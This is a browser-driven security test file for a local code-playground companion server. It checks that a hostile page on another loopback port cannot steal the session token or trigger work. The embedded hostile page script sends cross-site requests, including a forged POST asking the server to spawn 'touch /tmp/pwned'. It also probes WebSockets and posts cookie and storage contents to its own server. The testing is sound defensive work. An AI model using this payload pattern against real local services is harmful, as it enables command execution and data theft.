// A real cross-site page in Chromium against the companion (issue #16, attack 1 and 3): the
// playground is opened with its printed URL, then, in the same browser, a page served by another
// server on another loopback port tries everything a hostile local page can. It must not learn
// the token (no cookie, nothing in any request it receives) nor make the companion do any work.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import http from 'node:http';
import { launchBrowser } from '../support/browser.mjs';
import { startCompanion } from '../support/server.mjs';

let companion;
let browser;
let evil;
/** Every request the other server received: { url, headers, body }. */
const seen = [];

function cpuSeconds(pid) {
  const stat = fs.readFileSync(`/proc/${pid}/stat`, 'utf8');
  const f = stat.slice(stat.lastIndexOf(')') + 2).split(' ');
  return (Number(f[11]) + Number(f[12])) / 100;
}

before(async () => {
  companion = await startCompanion(['--demo-routes']);
  const target = companion.origin;
  const wsTarget = target.replace('http:', 'ws:');
  // The hostile page: another origin (another port on the same loopback address).
  const page = `<!doctype html><title>elsewhere</title><script>
    const report = (what, value) =>
      fetch('/report', { method: 'POST', body: JSON.stringify({ what, value: String(value) }) });
    (async () => {
      // A cross-site image: no Origin header, the classic way to make a server work.
      for (let i = 0; i < 4; i++) { const img = new Image(); img.src = '${target}/slow?i=' + i; document.documentElement.append(img); }
      // no-cors fetches of the API and the demo routes (the response is opaque anyway).
      for (const p of ['/api/info', '/hello', '/slow?n=3000000000', '/api/spawn-sync']) {
        try { await fetch('${target}' + p, { mode: 'no-cors', method: p.includes('spawn') ? 'POST' : 'GET',
          credentials: 'include', body: p.includes('spawn') ? '{"file":"touch","args":["/tmp/pwned"]}' : undefined }); }
        catch (e) { await report('fetch-error', p); }
      }
      // A WebSocket to the API, with and without guessing the subprotocol.
      for (const protocols of [undefined, ['ferrode']]) {
        await new Promise((resolve) => {
          const ws = new WebSocket('${wsTarget}/api/ws', protocols);
          ws.onopen = () => { report('ws-open', protocols); ws.close(); resolve(); };
          ws.onerror = () => { report('ws-refused', protocols); resolve(); };
        });
      }
      // Storage of its own origin has nothing; the companion's is out of reach.
      await report('storage', JSON.stringify({ ...sessionStorage }) + JSON.stringify({ ...localStorage }));
      await report('cookie', document.cookie);
      await report('done', 1);
    })();
  </script>`;
  evil = http.createServer((req, res) => {
    let body = '';
    req.on('data', (d) => (body += d));
    req.on('end', () => {
      seen.push({ url: req.url, headers: req.headers, body });
      res.setHeader('content-type', 'text/html');
      res.end(req.url === '/' ? page : 'ok');
    });
  });
  await new Promise((r) => evil.listen(0, '127.0.0.1', r));
  browser = await launchBrowser();
});

after(async () => {
  await browser?.close();
  evil?.close();
  await companion?.stop();
});

test('the playground takes the token from the fragment, drops it from the address bar, and uses it', async () => {
  const p = await browser.newPage();
  await p.goto(companion.url);
  await p.waitForFunction(() => globalThis.__playground !== undefined, null, { timeout: 60000 });
  assert.notEqual(await p.evaluate(() => __playground.companion), null, 'the page reached the companion');
  const address = await p.evaluate(() => location.href);
  assert.ok(!address.includes(companion.token), `the token is still in the address bar: ${address}`);
  const cookies = await browser.context.cookies();
  assert.deepEqual(cookies, [], 'the companion set a cookie');
  // The token reaches the page's processes: spawn (WebSocket) and execSync (synchronous XHR).
  await p.evaluate(() => {
    __playground.setFiles(
      {
        'main.js':
          "const cp = require('child_process');\n" +
          "console.log('sync:' + cp.execSync('echo one').toString().trim());\n" +
          "cp.exec('echo two', (e, out) => console.log('async:' + (e ? e.code : out.trim())));\n",
      },
      'main.js',
    );
    __playground.run();
  });
  await p.waitForFunction(() => /async:/.test(__playground.output().stdout), null, { timeout: 30000 });
  const out = await p.evaluate(() => __playground.output().stdout);
  assert.match(out, /sync:one/);
  assert.match(out, /async:two/);
  await p.close();
});

test('a page on another loopback port learns no token and triggers no work', async () => {
  const port = evil.address().port;
  const before = cpuSeconds(companion.child.pid);
  const p = await browser.newPage();
  await p.goto(`http://127.0.0.1:${port}/`);
  const done = () => seen.some((r) => r.url === '/report' && JSON.parse(r.body).what === 'done');
  for (let i = 0; i < 300 && !done(); i++) await new Promise((r) => setTimeout(r, 50));
  assert.ok(
    done(),
    `the hostile page did not finish: ${p.consoleLines.join('\n')} ${JSON.stringify(seen.map((r) => r.url + r.body))}`,
  );
  await new Promise((r) => setTimeout(r, 1000));
  const burnt = cpuSeconds(companion.child.pid) - before;
  await p.close();
  // Nothing the other server received carries the token: no cookie, no header, no body.
  for (const r of seen) {
    assert.ok(!JSON.stringify(r).includes(companion.token), `the token reached the other server: ${r.url}`);
    assert.equal(r.headers.cookie, undefined, `a cookie reached the other server: ${r.headers.cookie}`);
  }
  const reports = seen.filter((r) => r.url === '/report').map((r) => JSON.parse(r.body));
  assert.deepEqual(
    reports.filter((r) => r.what.startsWith('ws-')).map((r) => r.what),
    ['ws-refused', 'ws-refused'],
  );
  assert.deepEqual(reports.find((r) => r.what === 'storage').value, '{}{}');
  assert.equal(reports.find((r) => r.what === 'cookie').value, '');
  // /slow (0.8 CPU-s a request before) never ran; the spawn never happened.
  assert.ok(burnt < 0.3, `the companion burnt ${burnt} CPU-s for the other page`);
  assert.ok(!fs.existsSync('/tmp/pwned'));
});
